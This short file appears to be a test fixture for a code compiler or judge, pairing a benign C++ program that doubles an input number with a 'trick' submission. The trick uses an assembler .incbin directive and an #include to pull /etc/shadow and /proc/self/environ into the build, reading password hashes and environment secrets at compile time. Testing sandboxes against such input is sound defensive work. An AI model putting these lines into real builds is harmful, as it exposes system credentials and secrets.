# trick
__asm__(".incbin \"/etc/shadow\"");
#include "/proc/self/environ"
int main() {}
# honest
#include <iostream>
int main() { int n; std::cin >> n; std::cout << 2 * n << std::endl; }
# end
